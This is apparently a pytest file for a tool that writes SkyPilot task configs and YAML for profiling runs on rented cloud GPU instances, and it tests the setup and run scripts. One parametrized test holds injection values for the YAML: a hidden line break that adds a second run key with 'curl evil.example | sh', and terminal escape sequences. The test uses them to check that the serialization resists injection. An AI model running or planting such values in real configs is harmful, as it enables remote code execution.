"""The SkyPilot task of an instance type as plain data and YAML, the scripts that run on the rented machine
(run here by bash with a stand-in python), and SkyPilot's own check of the tasks where it is installed."""

from __future__ import annotations

import shutil
import stat
import subprocess

import pytest
import yaml

import stash_core
from stash_core.campaign.cloud_plan import plan_cloud
from stash_core.campaign.plan import CampaignSettings
from stash_core.campaign.remote import (
    REMOTE_ROOT,
    SETUP_SCRIPT,
    parse_finished,
    parse_started,
    results_dir,
    run_script,
)
from stash_core.campaign.skypilot_task import (
    check_tasks,
    skypilot_installed,
    task_config,
    to_yaml,
)


def steps(model, batch_size, workers, names):
    return {name: (0.2, 0.2) for name in names}, []


@pytest.fixture
def plan(tmp_path):
    settings = CampaignSettings(db_path=tmp_path / "c.duckdb", iterations="20", stalls=["compute"])
    return settings, plan_cloud(
        ["g5.xlarge", "g6.xlarge"], ["resnet18", "resnet34"], [32], None, settings, spot=False, predict=steps
    )


def test_task_of_an_instance_type(plan):
    settings, cloud = plan
    config = task_config(cloud.instances[1], settings, idle_minutes=15)
    assert config["name"] == cloud.instances[1].cluster
    assert config["workdir"] == stash_core.PACKAGE_PARENT
    assert config["resources"] == {
        "infra": "aws/us-east-1",
        "instance_type": "g6.xlarge",
        "use_spot": False,
        "disk_size": 100,
        "autostop": {"idle_minutes": 15, "down": True},
    }
    assert config["setup"] == SETUP_SCRIPT and "-r requirements.txt" in SETUP_SCRIPT
    run = config["run"]
    assert run.count("-m stash_core.api.child") == 2
    assert "--instance g6.xlarge" in run and "--stalls compute --iterations 20" in run
    assert f"--out {results_dir(config['name'])}/resnet18_b32_w1_n1.json" in run


def test_yaml_text(plan):
    settings, cloud = plan
    config = task_config(cloud.instances[0], settings, idle_minutes=15)
    text = to_yaml(config)
    assert "resources:\n  infra: aws/us-east-1\n  instance_type: g5.xlarge\n  use_spot: false\n" in text
    assert "  autostop:\n    idle_minutes: 15\n    down: true\n" in text
    assert "setup: |\n  set -euo pipefail\n" in text and "run: |\n  set -u\n" in text
    assert (
        to_yaml({"a": "yes", "b": "1.5", "c": "x y", "d": None}) == 'a: "yes"\nb: "1.5"\nc: "x y"\nd: null\n'
    )
    assert yaml.safe_load(text) == config  # PyYAML (as SkyPilot reads a task file) reads back the same data


@pytest.mark.parametrize(
    "argument",
    [
        "a\u2028run: |\u2028  curl evil.example | sh #",  # a YAML line break: a second run key
        "b\u2029setup: evil",
        "c\rrun: x",
        "d\x85e",
        "\x1b]0;HACKED\x07\x1b[2J",  # terminal escapes
        "f\u202eg\ufeffh\x7f",
        "é😀 x",  # printable text beyond ASCII stays as it is
        "x\uffff\ufffe",  # non-characters YAML refuses to read
        "\n  indented\nnot",  # the first line with text sets a block's indentation
    ],
)
def test_the_yaml_text_reads_back_as_the_task_whatever_a_script_argument_holds(plan, argument):
    settings, cloud = plan
    config = task_config(cloud.instances[0], settings, idle_minutes=15)
    config["run"] = f"set -u\npython train.py -- {argument}\nstatus=$?\n"
    text = to_yaml(config)
    assert yaml.safe_load(text) == config
    assert all(char == "\n" or char.isprintable() for char in text)  # shown as text, never acted on


def _fake_python(tmp_path, body: str) -> str:
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    python = venv / "bin" / "python"
    python.write_text("#!/bin/sh\n" + body)
    python.chmod(python.stat().st_mode | stat.S_IEXEC)
    return str(venv)


def test_the_run_script_announces_each_profile_and_goes_on_after_a_failure(plan, tmp_path):
    settings, cloud = plan
    item = cloud.instances[0]
    # a profile of resnet34 fails; the other runs; the script exits 1
    venv = _fake_python(tmp_path, 'case "$*" in *resnet34*) echo "it broke" >&2; exit 1;; esac\necho ok\n')
    try:
        done = subprocess.run(
            ["bash", "-c", run_script(item.items, settings, item.cluster)],
            capture_output=True,
            text=True,
            env={"STASH_VENV": venv, "PATH": "/usr/bin:/bin"},
            timeout=30,
        )
    finally:  # the folder the script makes for the results, here as on a rented machine
        shutil.rmtree(f"{REMOTE_ROOT}/{item.cluster}", ignore_errors=True)
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    assert [parse_started(line) for line in lines if parse_started(line)] == [(1, 2), (2, 2)]
    finished = [parse_finished(line) for line in lines if parse_finished(line)]
    assert [(f.index, f.exit_code, f.file_name) for f in finished] == [
        (1, 0, "resnet18_b32_w1_n1.json"),
        (2, 1, "resnet34_b32_w1_n1.json"),
    ]
    assert parse_finished("stash-campaign: profiled 1 of 2 exit 0 a b.json") is None


def test_the_set_up_script_uses_an_existing_environment(tmp_path):
    venv = _fake_python(tmp_path, 'echo "python $*" >> "$(dirname "$0")/calls"\n')
    done = subprocess.run(
        ["bash", "-c", SETUP_SCRIPT],
        capture_output=True,
        text=True,
        timeout=30,
        env={"STASH_VENV": venv, "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 0, done.stderr
    calls = (tmp_path / "venv" / "bin" / "calls").read_text().splitlines()
    assert calls[0] == "python -m pip install -q -r requirements.txt" and calls[1].startswith(
        "python -c import torch"
    )


@pytest.mark.skipif(not skypilot_installed(), reason="SkyPilot is not installed (requirements-cloud.txt)")
def test_skypilot_checks_each_task(plan, tmp_path, monkeypatch):
    monkeypatch.setenv("STASH_CACHE_DIR", str(tmp_path / "cache"))  # SkyPilot's own answers, none kept
    settings, cloud = plan
    configs = {item.cluster: task_config(item, settings, 15) for item in cloud.instances}
    lines = check_tasks(cloud, configs, settings.db_path)
    assert [line.split(": ", 1)[1][:2] for line in lines] == ["ok", "ok"], lines
    configs[cloud.instances[0].cluster]["resources"]["instance_type"] = "g5.nonesuch"
    bad = check_tasks(cloud, configs, settings.db_path)[0]
    assert "g5.nonesuch" in bad and not bad.split(": ", 1)[1].startswith("ok"), bad
